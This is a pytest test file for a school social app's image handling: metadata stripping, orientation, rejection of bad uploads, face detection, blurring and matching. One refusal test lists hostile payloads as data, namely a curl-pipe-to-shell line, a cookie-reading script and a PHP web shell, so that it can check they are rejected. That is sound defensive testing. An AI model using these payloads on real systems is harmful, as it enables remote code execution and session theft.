"""Images in posts: no metadata leaves, orientation survives, bad uploads are refused with a reason, faces are found
in real photos (scikit-image's sample data) and blurred beyond recognition."""

from __future__ import annotations

import io
import struct
import zlib

import numpy as np
import pytest
import skimage.data
from PIL import ExifTags, Image, ImageFile
from PIL.PngImagePlugin import PngInfo

from safesocial import images
from safesocial.images import FaceMatcher, ImageRejected, MatchingUnavailable

# The astronaut's face in skimage.data.astronaut(), as dlib boxes it (brows to chin).
ASTRONAUT_FACE = (175, 76, 91, 91)

GREY = (128, 128, 128)
RED = (230, 20, 20)


def encode(image: Image.Image, fmt: str = "JPEG", **params) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, fmt, **params)
    return buffer.getvalue()


def reopen(data: bytes) -> Image.Image:
    image = Image.open(io.BytesIO(data))
    image.load()
    return image


def iou(a: tuple[int, int, int, int], b: tuple[int, int, int, int]) -> float:
    ix = max(0, min(a[0] + a[2], b[0] + b[2]) - max(a[0], b[0]))
    iy = max(0, min(a[1] + a[3], b[1] + b[3]) - max(a[1], b[1]))
    inter = ix * iy
    return inter / (a[2] * a[3] + b[2] * b[3] - inter)


def assert_no_metadata(data: bytes) -> None:
    image = reopen(data)
    assert len(image.getexif()) == 0
    for key in ("exif", "xmp", "XML:com.adobe.xmp", "icc_profile", "comment", "photoshop"):
        assert key not in image.info, key
    for marker in (b"Exif\x00\x00", b"http://ns.adobe.com/xap", b"ICC_PROFILE", b"Photoshop 3.0", b"eXIf", b"tEXt"):
        assert marker not in data, marker


@pytest.fixture(scope="module")
def astronaut() -> Image.Image:
    return Image.fromarray(skimage.data.astronaut())


@pytest.fixture(scope="module")
def astronaut_jpeg(astronaut) -> bytes:
    return images.sanitise(encode(astronaut, "PNG")).data


def phone_photo_exif() -> Image.Exif:
    """What a phone writes: its make and model, when, and where (a school playground in Kent) to the metre."""
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "SchoolPhone"
    exif[ExifTags.Base.Model] = "Staff Handset 7"
    exif[ExifTags.Base.DateTime] = "2025:06:30 10:15:00"
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (51.0, 16.0, 42.5),
        ExifTags.GPS.GPSLongitudeRef: "E",
        ExifTags.GPS.GPSLongitude: (1.0, 4.0, 33.2),
    }
    return exif


# --- sanitise ----------------------------------------------------------------------------------------------------


def test_gps_and_all_exif_are_gone_after_sanitise(astronaut):
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><exif:GPSLatitude>51,16.7N</exif:GPSLatitude></x:xmpmeta>'
    raw = encode(astronaut, exif=phone_photo_exif(), comment=b"Sports day, Seabright", xmp=xmp)
    assert reopen(raw).getexif().get_ifd(ExifTags.IFD.GPSInfo)  # the upload really does say where it was taken

    result = images.sanitise(raw)

    assert result.had_metadata and result.had_gps
    assert result.content_type == "image/jpeg"
    assert (result.width, result.height) == (512, 512)
    assert_no_metadata(result.data)
    for leak in (b"SchoolPhone", b"Staff Handset", b"2025:06:30", b"Sports day", b"GPSLatitude"):
        assert leak not in result.data


def test_a_photo_without_metadata_is_reported_as_such(astronaut):
    result = images.sanitise(encode(astronaut))

    assert not result.had_metadata and not result.had_gps


def test_an_embedded_colour_profile_is_applied_then_dropped(astronaut):
    from PIL import ImageCms

    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    result = images.sanitise(encode(astronaut, icc_profile=srgb))

    assert result.had_metadata and not result.had_gps
    assert_no_metadata(result.data)


@pytest.mark.parametrize(
    ("orientation", "size", "red_corner"),
    [(6, (40, 80), "top right"), (8, (40, 80), "bottom left"), (3, (80, 40), "bottom right")],
    ids=["orientation 6", "orientation 8", "orientation 3"],
)
def test_exif_orientation_is_applied_so_the_photo_is_upright(orientation, size, red_corner):
    # Stored landscape, red in the stored top-left corner; the tag says how a camera would turn it for display.
    stored = Image.new("RGB", (80, 40), GREY)
    stored.paste(Image.new("RGB", (20, 20), RED), (0, 0))
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation

    result = images.sanitise(encode(stored, exif=exif, quality=95))

    upright = reopen(result.data).convert("RGB")
    assert upright.size == (result.width, result.height) == size
    w, h = size
    corners = {"top left": (6, 6), "top right": (w - 7, 6), "bottom left": (6, h - 7), "bottom right": (w - 7, h - 7)}
    for name, xy in corners.items():
        r, g, b = upright.getpixel(xy)
        is_red = r > 180 and g < 90 and b < 90
        assert is_red == (name == red_corner), (name, (r, g, b))
    assert ExifTags.Base.Orientation not in reopen(result.data).getexif()


def test_a_png_with_transparency_stays_png_with_its_transparency():
    image = Image.new("RGBA", (64, 48), (0, 120, 200, 255))
    image.paste(Image.new("RGBA", (32, 48), (255, 255, 255, 0)), (0, 0))
    text = PngInfo()
    text.add_text("Author", "Head of art, Seabright")
    raw = encode(image, "PNG", exif=phone_photo_exif(), pnginfo=text)
    assert reopen(raw).text  # the upload really does carry a text chunk

    result = images.sanitise(raw)

    assert result.content_type == "image/png"
    assert result.had_metadata and result.had_gps
    out = reopen(result.data)
    assert out.format == "PNG" and out.mode == "RGBA"
    assert out.getpixel((5, 5))[3] == 0 and out.getpixel((50, 5)) == (0, 120, 200, 255)
    assert_no_metadata(result.data)
    assert b"Head of art" not in result.data


def test_a_png_whose_pixels_are_all_opaque_becomes_a_jpeg():
    result = images.sanitise(encode(Image.new("RGBA", (64, 48), (0, 120, 200, 255)), "PNG"))

    assert result.content_type == "image/jpeg"
    assert reopen(result.data).format == "JPEG"


# --- refusals ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "payload",
    [
        b"#!/bin/sh\ncurl https://example.invalid/x | sh\n",
        b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>",
        b"<?php system($_GET['c']); ?>",
    ],
    ids=["shell script", "html page", "php script"],
)
def test_a_script_renamed_as_jpg_is_refused_as_not_an_image(payload):
    with pytest.raises(ImageRejected, match="not an image"):
        images.sanitise(payload)


def test_random_bytes_are_refused_as_not_an_image():
    with pytest.raises(ImageRejected, match="not an image"):
        images.sanitise(bytes(range(256)) * 8)


def test_an_empty_file_is_refused():
    with pytest.raises(ImageRejected, match="empty"):
        images.sanitise(b"")


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "GIF", "WEBP", "AVIF"])
@pytest.mark.parametrize("lenient_pillow", [False, True], ids=["pillow strict", "pillow lenient"])
def test_a_truncated_image_is_refused_as_corrupt_even_when_pillow_is_told_to_be_lenient(
    monkeypatch, fmt, lenient_pillow
):
    # WeasyPrint sets this global to True when it is imported; after that Pillow pads a cut-off file with grey.
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", lenient_pillow)
    noise = Image.fromarray(np.random.default_rng(1).integers(0, 255, (300, 400, 3), dtype=np.uint8))
    whole = encode(noise, fmt)

    for cut in (0.5, 0.95):
        with pytest.raises(ImageRejected, match="corrupt"):
            images.sanitise(whole[: int(len(whole) * cut)])


def test_a_jpeg_with_an_exif_thumbnail_is_not_mistaken_for_a_complete_one_when_cut(astronaut):
    exif = phone_photo_exif()
    whole = encode(astronaut, exif=exif)
    # The EXIF block of a camera photo holds a small JPEG with its own end marker, before the main image starts.
    thumbnail = encode(astronaut.resize((64, 64)))
    raw = whole[:2] + b"\xff\xe1" + (len(thumbnail) + 8).to_bytes(2, "big") + b"Exif\x00\x00" + thumbnail + whole[2:]
    assert images.sanitise(raw).width == 512

    with pytest.raises(ImageRejected, match="corrupt"):
        images.sanitise(raw[: len(raw) * 3 // 4])


def test_a_jpeg_with_a_broken_header_is_refused_as_corrupt():
    whole = encode(Image.new("RGB", (64, 64), GREY))

    with pytest.raises(ImageRejected, match="corrupt"):
        images.sanitise(whole[:40])


def test_an_unsupported_format_is_refused_by_name():
    with pytest.raises(ImageRejected, match="TIFF format are not supported"):
        images.sanitise(encode(Image.new("RGB", (64, 64), GREY), "TIFF"))


def test_an_svg_drawing_is_refused_with_a_way_forward():
    svg = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>'

    with pytest.raises(ImageRejected, match="SVG drawings are not supported"):
        images.sanitise(svg)


def test_an_iphone_heic_photo_is_refused_with_a_way_forward():
    heic_start = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(64)

    with pytest.raises(ImageRejected, match=r"HEIC photos .* not supported"):
        images.sanitise(heic_start)


def test_an_animated_gif_is_refused():
    frames = [Image.new("RGB", (32, 32), colour) for colour in ("red", "green", "blue")]
    raw = encode(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=100)

    with pytest.raises(ImageRejected, match="Animated"):
        images.sanitise(raw)


def png_header_claiming(width: int, height: int) -> bytes:
    """A valid PNG that says it is width x height grey pixels, in a few dozen bytes (its data is cut short)."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    idat = zlib.compress(b"\x00" * (width + 1))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def jpeg_header_claiming(width: int, height: int) -> bytes:
    """A real 16 x 16 JPEG whose frame header is rewritten to claim width x height."""
    data = bytearray(encode(Image.new("RGB", (16, 16), GREY)))
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
@pytest.mark.parametrize("craft", [png_header_claiming, jpeg_header_claiming], ids=["png", "jpeg"])
@pytest.mark.parametrize(
    ("width", "height", "megapixels"),
    [(10_000, 10_000, "100"), (8_000, 7_500, "60"), (30_000, 30_000, "")],
    ids=["100 MP", "60 MP", "900 MP"],
)
def test_an_image_over_50_megapixels_is_refused_from_its_header_without_decoding(
    monkeypatch, craft, width, height, megapixels
):
    def decode(self):
        raise AssertionError("pixels were decoded")

    monkeypatch.setattr(ImageFile.ImageFile, "load", decode)
    raw = craft(width, height)
    assert len(raw) < 20_000

    for operation in (images.sanitise, images.detect_faces, lambda data: images.blur_faces(data, [])):
        with pytest.raises(ImageRejected, match=rf"too large.*{megapixels}.*limit is 50 megapixels"):
            operation(raw)


# --- faces -------------------------------------------------------------------------------------------------------


def test_the_astronauts_face_is_found_first_and_nothing_else_with_confidence(astronaut_jpeg):
    faces = images.detect_faces(astronaut_jpeg)

    assert faces, "no face found"
    assert iou(faces[0].box, ASTRONAUT_FACE) > 0.7
    assert faces[0].score > 1.0
    # The round mission patch on her suit scores about 0, the detector's cut: in or out by a hair, and a box staff
    # would dismiss. The cut stays there because a missed face costs more.
    assert all(face.score < 0.5 for face in faces[1:])


@pytest.mark.parametrize("name", ["chelsea", "coffee", "rocket", "coins", "hubble_deep_field", "brick", "horse"])
def test_no_faces_are_found_in_photos_without_people(name):
    photo = Image.fromarray(getattr(skimage.data, name)()).convert("RGB")

    assert images.detect_faces(encode(photo)) == []


def lfw_crop(index: int) -> bytes:
    """A 25 x 25 crop from scikit-image's Labeled Faces in the Wild subset, enlarged on a grey card."""
    pixels = (skimage.data.lfw_subset()[index] * 255).astype(np.uint8)
    card = Image.new("L", (240, 240), 128)
    card.paste(Image.fromarray(pixels).resize((150, 150), Image.Resampling.BICUBIC), (45, 45))
    return encode(card.convert("RGB"), "PNG")


def test_most_lfw_faces_are_found_and_no_lfw_non_faces_are():
    found = sum(bool(images.detect_faces(lfw_crop(index))) for index in range(20))
    false = sum(bool(images.detect_faces(lfw_crop(index))) for index in range(100, 120))

    assert found >= 17
    assert false == 0


def test_face_boxes_are_given_in_the_full_size_images_pixels(astronaut):
    # A 12 MP photo: detection runs on a copy a third the size, the boxes must come back at full size.
    photo = Image.new("RGB", (4000, 3000), GREY)
    photo.paste(astronaut.resize((1536, 1536), Image.Resampling.BICUBIC), (2000, 1000))
    expected = tuple(offset + 3 * v for offset, v in zip((2000, 1000, 0, 0), ASTRONAUT_FACE, strict=True))

    faces = images.detect_faces(images.sanitise(encode(photo)).data)

    assert iou(faces[0].box, expected) > 0.7


def test_faces_in_a_sideways_stored_photo_are_boxed_in_its_upright_pixels(astronaut):
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    raw = encode(astronaut.rotate(90, expand=True), exif=exif, quality=95)

    upload_faces = images.detect_faces(raw)
    sanitised_faces = images.detect_faces(images.sanitise(raw).data)

    assert iou(upload_faces[0].box, ASTRONAUT_FACE) > 0.7
    assert iou(sanitised_faces[0].box, ASTRONAUT_FACE) > 0.7


# --- blurring and crops ------------------------------------------------------------------------------------------


def test_blurring_changes_the_face_but_not_the_rest_of_the_photo(astronaut_jpeg):
    before = np.asarray(reopen(astronaut_jpeg).convert("RGB"), dtype=np.int16)

    after = np.asarray(reopen(images.blur_faces(astronaut_jpeg, [ASTRONAUT_FACE])).convert("RGB"), dtype=np.int16)

    x, y, w, h = ASTRONAUT_FACE
    change = np.abs(after - before)
    assert change[y : y + h, x : x + w].mean() > 15
    outside = np.ones(change.shape[:2], dtype=bool)
    # The padded box, plus 16 px where JPEG's 8 x 8 blocks straddle its edge.
    outside[max(0, y - 48) : y + h + 48, max(0, x - 48) : x + w + 48] = False
    assert change[outside].mean() < 1.5


def test_a_blurred_face_is_no_longer_found_by_the_detector(astronaut_jpeg):
    blurred = images.blur_faces(astronaut_jpeg, [ASTRONAUT_FACE])

    assert not [face for face in images.detect_faces(blurred) if iou(face.box, ASTRONAUT_FACE) > 0.3]


def test_blurred_output_has_no_metadata_even_from_an_unsanitised_upload(astronaut):
    raw = encode(astronaut, exif=phone_photo_exif(), comment=b"Year 3 trip")

    blurred = images.blur_faces(raw, [ASTRONAUT_FACE])

    assert_no_metadata(blurred)
    assert b"SchoolPhone" not in blurred and b"Year 3" not in blurred


def test_blurring_a_box_half_outside_the_photo_blurs_the_part_inside(astronaut_jpeg):
    blurred = images.blur_faces(astronaut_jpeg, [(480, 480, 100, 100), (900, 900, 10, 10)])

    assert reopen(blurred).size == (512, 512)


def test_a_face_box_must_have_a_size(astronaut_jpeg):
    with pytest.raises(ValueError, match="positive width"):
        images.blur_faces(astronaut_jpeg, [(10, 10, 0, 20)])


def test_a_face_crop_is_a_square_jpeg_thumbnail_without_metadata(astronaut):
    raw = encode(astronaut, exif=phone_photo_exif())

    for box in (ASTRONAUT_FACE, (0, 0, 60, 60)):
        thumb = images.face_crop(raw, box)
        assert reopen(thumb).size == (160, 160) and reopen(thumb).format == "JPEG"
        assert_no_metadata(thumb)
    assert reopen(images.face_crop(raw, ASTRONAUT_FACE, size=96)).size == (96, 96)


# --- matching ----------------------------------------------------------------------------------------------------


def test_the_same_face_matches_itself_across_photos_and_not_other_people(astronaut, astronaut_jpeg):
    matcher = FaceMatcher()
    enrolled = matcher.embed(astronaut_jpeg, ASTRONAUT_FACE)
    # Another photo of her: mirrored, twice the size, on a bigger canvas.
    photo = Image.new("RGB", (1600, 1200), GREY)
    photo.paste(astronaut.transpose(Image.Transpose.FLIP_LEFT_RIGHT).resize((1024, 1024)), (300, 100))
    photo_jpeg = images.sanitise(encode(photo)).data
    probe = matcher.embed(photo_jpeg, images.detect_faces(photo_jpeg)[0].box)
    strangers = {}
    for pupil_id, index in ((11, 3), (12, 17), (13, 29)):
        crop = lfw_crop(index)
        strangers[pupil_id] = matcher.embed(crop, images.detect_faces(crop)[0].box)

    found = matcher.match(probe, {7: enrolled, **strangers}, threshold=0.6)

    assert len(enrolled) == len(probe) == 128
    assert [pupil for pupil, _ in found] == [7]
    assert found[0][1] < 0.3
    assert matcher.match(probe, {}, threshold=0.6) == []


def test_matching_lists_every_reference_within_the_threshold_nearest_first():
    matcher = FaceMatcher()
    probe = [0.0] * 128
    references = {1: [0.5] + [0.0] * 127, 2: [0.2] + [0.0] * 127, 3: [0.9] + [0.0] * 127}

    assert matcher.match(probe, references, threshold=0.6) == [(2, pytest.approx(0.2)), (1, pytest.approx(0.5))]


def test_matching_says_clearly_when_its_models_are_not_installed(monkeypatch):
    monkeypatch.setattr(images, "find_spec", lambda name: None)
    monkeypatch.setattr(images._models(), "_descriptor", None)

    with pytest.raises(MatchingUnavailable, match="face-recognition-models"):
        FaceMatcher()
